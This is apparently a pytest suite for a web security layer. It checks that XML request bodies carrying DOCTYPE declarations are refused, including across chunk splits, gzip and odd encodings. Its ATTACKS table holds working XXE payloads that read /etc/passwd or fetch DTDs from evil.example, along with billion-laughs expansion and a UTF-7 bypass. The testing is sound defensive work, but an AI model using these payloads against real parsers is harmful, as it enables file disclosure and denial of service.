"""XML: refused unless a route asks for it, and then taken without document type declarations."""

import gzip
import json
import time

import pytest

from calling import Reader, call, fields_of, http_scope
from thebes import Security
from thebes.validation.xml import MAX_PROLOG, XmlGuard, XmlRefused

CHUNKED = (b"transfer-encoding", b"chunked")
HONEST = '<?xml version="1.0"?>\n<!-- a <!DOCTYPE a> in a comment -->\n<?note <!DOCTYPE?>\n'
HONEST += (
    '<g:gates xmlns:g="urn:x"><gate n="1">T\u00fcr &lt; &#65;</gate><![CDATA[<!DOCTYPE a>]]></g:gates>\n'
)
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
ATTACKS = {
    "a bare declaration": "<!DOCTYPE a><a/>",
    "after the xml declaration": '<?xml version="1.0"?><!DOCTYPE a><a/>',
    "after comments": "<!-- x --><?y z?>\n<!-- x -->\n<!DOCTYPE a>\n<a/>",
    "an external subset": '<!DOCTYPE a SYSTEM "http://evil.example/x.dtd"><a/>',
    "a public identifier": '<!DOCTYPE a PUBLIC "-//x" "http://evil.example/x.dtd"><a/>',
    "an external entity": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    "an internal entity": '<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>',
    "a parameter entity": '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x">%x;]><a/>',
    "billion laughs": f'<!DOCTYPE a [<!ENTITY l0 "ha">{LAUGHS}]><a>&l9;</a>',
    "one long entity, many times": f'<!DOCTYPE a [<!ENTITY x "{"y" * 5000}">]><a>{"&x;" * 5000}</a>',
    "an attribute list": '<!DOCTYPE a [<!ATTLIST a b CDATA "c">]><a/>',
    "a notation": '<!DOCTYPE a [<!NOTATION n SYSTEM "x">]><a/>',
}
XML_TYPES = [
    "application/xml",
    "text/xml",
    "application/soap+xml",
    "image/svg+xml",
    "application/atom+xml; charset=utf-8",
    "Application/XML",
    "TEXT/XML;charset=UTF-8",
    " application/xml ;a=b",
    'application/x.y-z+XML; action="a"',
]


@pytest.fixture
def app(reader):
    return guarded(reader)


def guarded(reader):
    security = Security()
    security.route("POST /xml", xml=True, codings=["gzip"])
    return security.wrap(reader)


async def post(app, *chunks, content_type="application/xml", path="/xml", headers=()):
    """Send chunks; return the status and the name of the problem."""
    kinds = [content_type] if isinstance(content_type, str) else content_type
    fields = [CHUNKED, *headers, *((b"content-type", kind.encode()) for kind in kinds)]
    sent = await call(app, http_scope(path, "POST", fields), *chunks)
    problem = None
    if fields_of(sent).get(b"content-type") == b"application/problem+json":
        problem = json.loads(sent[1]["body"])["type"].removeprefix("urn:thebes:problem:")
    return sent[0]["status"], problem


REFUSED, TAKEN = (400, "xml-doctype-refused"), (200, None)


@pytest.mark.requirement("VAL-19")
class TestByDefault:
    @pytest.mark.parametrize("content_type", XML_TYPES)
    async def test_xml_is_refused_before_the_app_is_called(self, app, reader, content_type):
        answered = await post(app, b"<a/>", content_type=content_type, path="/other")

        assert (answered, reader.received) == ((415, "xml-refused"), [])

    @pytest.mark.parametrize(
        "content_type",
        [
            "application/json",
            "text/plain",
            "text/html",
            "application/xmlish",
            "x/xml-like",
            "a/b; c=application/xml",
        ],
    )
    async def test_other_types_pass_whatever_they_hold(self, app, reader, content_type):
        body = ATTACKS["an external entity"].encode()

        assert await post(app, body, content_type=content_type, path="/other") == TAKEN
        assert reader.received == [body]

    @pytest.mark.parametrize(
        "content_types",
        [
            pytest.param(("application/xml", "text/plain"), id="xml first"),
            pytest.param(("text/plain", "application/xml"), id="xml second"),
            pytest.param(("text/xml", "text/xml"), id="twice the same"),
        ],
    )
    async def test_a_second_content_type_does_not_hide_it(self, app, reader, content_types):
        """Frameworks read the first field or the last; either may be the one that says xml."""
        answered = await post(app, b"<a/>", content_type=content_types, path="/other")

        assert answered[0] in (400, 415)
        assert reader.received == []

    @pytest.mark.parametrize(
        "content_type",
        ["application/xml-dtd", "application/xml-external-parsed-entity", "text/xml-external-parsed-entity"],
    )
    async def test_the_other_xml_types_are_refused_too(self, app, reader, content_type):
        """RFC 7303, 9: what holds entities and declarations is XML as well."""
        answered = await post(app, b"<!ENTITY a SYSTEM 'x'>", content_type=content_type, path="/other")

        assert (answered[0], reader.received) == (415, [])


@pytest.mark.requirement("VAL-19")
@pytest.mark.slow
class TestWhereItIsEnabled:
    @pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
    @pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be"])
    async def test_a_document_type_is_refused(self, app, reader, attack, encoding):
        assert await post(app, attack.encode(encoding)) == REFUSED
        assert (reader.received, reader.ended) == ([b""], False)

    @pytest.mark.parametrize(
        "name", sorted(ATTACKS.keys() - {"one long entity, many times", "billion laughs"})
    )
    async def test_it_is_refused_wherever_the_chunks_are_cut(self, name):
        attack = ATTACKS[name].encode()
        for position in range(1, len(attack)):
            reader = Reader()
            assert await post(guarded(reader), attack[:position], attack[position:]) == REFUSED
            assert not reader.ended
            for declaration in (b"<!ENTITY", b"<!ATTLIST", b"<!NOTATION", b'.dtd">'):
                assert declaration not in reader.received[0]

    @pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
    async def test_it_is_refused_when_each_byte_comes_alone(self, reader, app, encoding):
        attack = ATTACKS["an external entity"].encode(encoding)

        assert await post(app, *(bytes([byte]) for byte in attack)) == REFUSED
        assert "<!ENTITY" not in reader.received[0].decode(encoding, "ignore")

    async def test_it_is_refused_when_it_follows_a_long_comment(self, app, reader):
        """Newer parsers put off a token that stays unfinished; the app's own may not (expat 2.6)."""
        chunks = [
            b"<!--" + b" " * (MAX_PROLOG - 200),
            b'--><!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/">%x;',
            b"]><a/>",
        ]

        assert await post(app, *chunks) == REFUSED
        assert b"<!ENTITY" not in reader.received[0]

    @pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
    async def test_it_is_refused_inside_gzip(self, app, reader, attack):
        packed = gzip.compress(attack.encode())
        gzipped = [(b"content-encoding", b"gzip")]

        for chunks in ([packed], [packed[:20], packed[20:]]):
            assert await post(app, *chunks, headers=gzipped) == REFUSED
            assert not reader.ended

    @pytest.mark.parametrize(
        "attack",
        [
            pytest.param(b'<?xml version="1.0" encoding="bogus"?><!DOCTYPE a><a/>', id="an unknown name"),
            pytest.param(b'<?xml version="1.0" encoding="utf-7"?><!DOCTYPE a><a/>', id="UTF-7"),
            pytest.param(b'<?xml version="1.0" encoding="shift_jis"?><!DOCTYPE a><a/>', id="Shift JIS"),
            pytest.param(b'<?xml version="1.0" encoding="cp037"?><a/>', id="EBCDIC"),
            pytest.param("<!DOCTYPE a><a/>".encode("utf-32"), id="UTF-32"),
            pytest.param("<!DOCTYPE a><a/>".encode("cp037"), id="EBCDIC without a declaration"),
            pytest.param(b"+ADwAIQ-DOCTYPE a><a/>", id="UTF-7 without a declaration"),
        ],
    )
    async def test_an_encoding_that_cannot_be_read_is_refused(self, app, reader, attack):
        assert await post(app, attack) == REFUSED
        assert not reader.ended

    async def test_a_charset_under_which_it_would_read_otherwise_is_refused(self, app, reader):
        """RFC 7303, 3.1: the parameter wins over the document, so an app may well decode by it."""
        document = b"<!-- +AC0ALQA+-<!DOCTYPE a [<!ENTITY x 'y'>]><a>&x;</a><!-- --><a/>"
        assert document.decode("utf-7").startswith("<!-- --><!DOCTYPE")

        answered = await post(app, document, content_type="application/xml; charset=UTF-7")

        assert answered[0] in (400, 415)
        assert not reader.ended

    @pytest.mark.parametrize("charset", ["utf-8", '"UTF-8"', "us-ascii", "utf8"])
    async def test_the_usual_charsets_pass(self, app, charset):
        assert await post(app, b"<a/>", content_type=f"text/xml; charset={charset}") == TAKEN

    @pytest.mark.parametrize(
        "body", [b"", b" ", b"data", b"<!-- never ended", b'{"json": true}', b"<", b"<!DOCTYPE", b"\0<a/>"]
    )
    async def test_what_has_no_element_is_refused(self, app, reader, body):
        assert await post(app, body) == REFUSED
        assert not reader.ended

    async def test_a_second_content_type_does_not_get_around_the_guard(self, app, reader):
        attack = ATTACKS["an external entity"].encode()

        answered = await post(app, attack, content_type=("application/xml", "text/plain"))

        assert answered[0] in (400, 415)
        assert not reader.ended

    @pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16"])
    async def test_honest_xml_passes_byte_for_byte_wherever_it_is_cut(self, encoding):
        document = HONEST.encode(encoding)
        for position in range(1, len(document)):
            reader = Reader()
            assert await post(guarded(reader), document[:position], document[position:]) == TAKEN
            assert (reader.received, reader.ended) == ([document], True)

    async def test_honest_xml_passes_through_gzip(self, app, reader):
        packed = gzip.compress(HONEST.encode())

        assert await post(app, packed[:30], packed[30:], headers=[(b"content-encoding", b"gzip")]) == TAKEN
        assert reader.received == [packed]

    @pytest.mark.parametrize(
        "document",
        [
            pytest.param(b"<a/>", id="the smallest"),
            pytest.param(b'<?xml version="1.0" encoding="ISO-8859-1"?><a>\xfc</a>', id="Latin 1"),
            pytest.param(b'<?xml version="1.0" standalone="yes"?><a b="c"/>', id="standalone"),
            pytest.param(b"<a>" + b"<b/>" * 100_000 + b"</a>", id="long"),
            pytest.param(b"<!--" + b"x" * 10_000 + b"--><a/>", id="long comment"),
        ],
    )
    async def test_more_honest_documents_pass(self, app, reader, document):
        assert await post(app, document) == TAKEN
        assert reader.received == [document]

    @pytest.mark.parametrize("content_type", XML_TYPES)
    async def test_every_xml_type_is_guarded(self, app, content_type):
        assert await post(app, b"<a/>", content_type=content_type) == TAKEN
        assert await post(app, b"<!DOCTYPE a><a/>", content_type=content_type) == REFUSED


class TestTheProlog:
    async def test_one_without_end_is_refused_long_before_the_body_limit(self, app, reader):
        assert await post(app, b"<!--", *[b"x" * 10_000] * 50) == REFUSED
        assert len(reader.received[0]) <= MAX_PROLOG

    def test_one_that_comes_byte_by_byte_does_not_cost_seconds(self):
        """A parser looks again at an unfinished token for each byte: quadratic (CVE-2023-52425)."""

        def read_on():
            guard = XmlGuard()
            guard.take(b"<!--", is_final=False)
            for _ in range(MAX_PROLOG):
                guard.take(b"x", is_final=False)

        started = time.process_time()
        with pytest.raises(XmlRefused):
            read_on()

        assert time.process_time() - started < 1
